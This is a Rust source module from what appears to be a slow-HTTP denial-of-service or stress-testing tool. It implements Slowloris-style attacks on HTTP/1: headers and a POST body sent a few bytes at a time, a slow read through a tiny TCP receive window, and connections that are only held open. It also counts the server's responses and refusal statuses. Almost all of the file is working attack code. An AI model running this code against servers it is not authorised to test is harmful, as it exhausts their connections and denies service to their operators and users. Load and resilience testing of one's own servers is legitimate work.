//! Attacks on HTTP/1: everything as slowly as the server bears, and connections that are only kept.

use crate::{
    connect::{self, Io, Trickle},
    ending::{Ending, How},
    pace::Pace,
    run::Context,
    summary::Counts,
};
use std::io;
use tokio::{
    io::{AsyncReadExt, ReadHalf, WriteHalf},
    time::{Duration, Instant, sleep, sleep_until},
};

/// The receive buffer of a slow reader: the kernel makes the least of it.
const TINY: u32 = 1024;
/// How often a slow reader looks whether it was shut out.
const LOOK: Duration = Duration::from_millis(50);

pub async fn attack(context: &Context, number: usize) -> Ending {
    let since = Instant::now();
    if context.attack.kind.name == "slow-read" {
        let how = slow_read(context, number).await;
        return Ending::of(
            how.unwrap_or_else(|error| How::of(&Err::<(), _>(error))),
            since,
        );
    }
    let stream = match connect::open(&context.attack, number, b"http/1.1").await {
        Ok(stream) => stream,
        Err(error) => return Ending::of(How::of(&Err::<(), _>(error)), since),
    };
    let (read, mut write) = tokio::io::split(stream);
    let script = async {
        match script(context, &mut write).await {
            Ok(()) => std::future::pending().await,
            Err(error) => How::of(&Err::<(), _>(error)),
        }
    };
    let how = tokio::select! {
        biased;
        how = listen(context, read) => how,
        how = script => how,
        () = sleep_until(context.until) => How::Open,
    };
    Ending::of(how, since)
}

/// Reads to the end, and says what that was: with a refusal's status if there was one.
async fn listen(context: &Context, mut read: ReadHalf<Box<dyn Io>>) -> How {
    let mut buffer = vec![0; 16_384];
    let mut refusal = None;
    loop {
        let result = read.read(&mut buffer).await;
        match &result {
            Ok(bytes) if *bytes > 0 => {
                Counts::add(&context.counts.bytes_received, *bytes);
                let status = buffer.get(..*bytes).and_then(status);
                if status.is_some() {
                    Counts::add(&context.counts.answers, 1);
                }
                refusal = status.filter(|status| *status >= 400).or(refusal);
            }
            _ => return refusal.map_or_else(|| How::of(&result), How::Answered),
        }
    }
}

/// The status of the answer that these bytes begin with.
fn status(bytes: &[u8]) -> Option<u16> {
    let code = bytes.strip_prefix(b"HTTP/1.1 ")?.get(..3)?;
    std::str::from_utf8(code).ok()?.parse().ok()
}

async fn script(context: &Context, write: &mut WriteHalf<Box<dyn Io>>) -> io::Result<()> {
    let attack = &context.attack;
    let (path, name) = (&attack.path, &attack.name);
    let mut drip: Box<dyn Iterator<Item = u8> + Send> = match attack.kind.name {
        "slow-headers" => {
            let head = format!("GET {path} HTTP/1.1\r\nhost: {name}\r\n");
            context.send(write, head.as_bytes()).await?;
            Box::new(b"x-a: b\r\n".iter().copied().cycle())
        }
        "slow-body" => {
            let head =
                format!("POST {path} HTTP/1.1\r\nhost: {name}\r\ncontent-length: 1000000\r\n\r\n");
            context.send(write, head.as_bytes()).await?;
            Box::new(std::iter::repeat(b'a'))
        }
        // A connection that is only kept.
        _ => {
            let head = format!("GET {path} HTTP/1.1\r\nhost: {name}\r\n\r\n");
            context.send(write, head.as_bytes()).await?;
            return Ok(());
        }
    };
    let mut pace = Pace::new(attack.rate, attack.units);
    while let Some(due) = pace.due().await {
        let bytes: Vec<u8> = drip
            .by_ref()
            .take(usize::try_from(due).unwrap_or(1))
            .collect();
        context.send(write, &bytes).await?;
        Counts::add(&context.counts.units, bytes.len());
    }
    Ok(())
}

/// Asks for something large and takes it through a window of a few hundred bytes.
async fn slow_read(context: &Context, number: usize) -> io::Result<How> {
    let attack = &context.attack;
    let tcp = connect::tcp(attack, number, Some(TINY)).await?;
    let head = format!(
        "GET {} HTTP/1.1\r\nhost: {}\r\n\r\n",
        attack.path, attack.name
    );
    let rate = attack.rate.unwrap_or(100.0);
    let trickle = Trickle::new(tcp);
    let mut stream: Either = if attack.plain {
        Either::Plain(trickle)
    } else {
        Either::Tls(Box::new(connect::tls(attack, trickle, b"http/1.1").await?))
    };
    stream.send(context, head.as_bytes()).await?;
    stream.trickle().slow_down(rate);
    let how = take_slowly(context, &mut stream).await;
    let received = stream.trickle().received;
    Counts::add(&context.counts.bytes_received, received);
    Counts::add(&context.counts.units, received);
    how
}

async fn take_slowly(context: &Context, stream: &mut Either) -> io::Result<How> {
    let mut buffer = vec![0; 4096];
    while Instant::now() < context.until {
        tokio::select! {
            result = stream.read(&mut buffer) => match result {
                Ok(bytes) if bytes > 0 => {}
                result => return Ok(How::of(&result)),
            },
            () = sleep(LOOK) => {}
        }
        // What is left unread hides from reading that the other side has gone.
        if stream.trickle().is_over().await? {
            return Ok(How::Fin);
        }
    }
    Ok(How::Open)
}

/// A slow reader's connection.
enum Either {
    Plain(Trickle),
    Tls(Box<tokio_rustls::client::TlsStream<Trickle>>),
}

impl Either {
    fn trickle(&mut self) -> &mut Trickle {
        match self {
            Self::Plain(stream) => stream,
            Self::Tls(stream) => stream.get_mut().0,
        }
    }

    async fn send(&mut self, context: &Context, bytes: &[u8]) -> io::Result<()> {
        match self {
            Self::Plain(stream) => context.send(stream, bytes).await,
            Self::Tls(stream) => context.send(stream, bytes).await,
        }
    }

    async fn read(&mut self, buffer: &mut [u8]) -> io::Result<usize> {
        match self {
            Self::Plain(stream) => stream.read(buffer).await,
            Self::Tls(stream) => stream.read(buffer).await,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_status_is_read_from_an_answer_alone() {
        assert_eq!(status(b"HTTP/1.1 408 Request Timeout\r\n"), Some(408));
        assert_eq!(status(b"HTTP/1.1 "), None);
        assert_eq!(status(b"<html>"), None);
    }
}
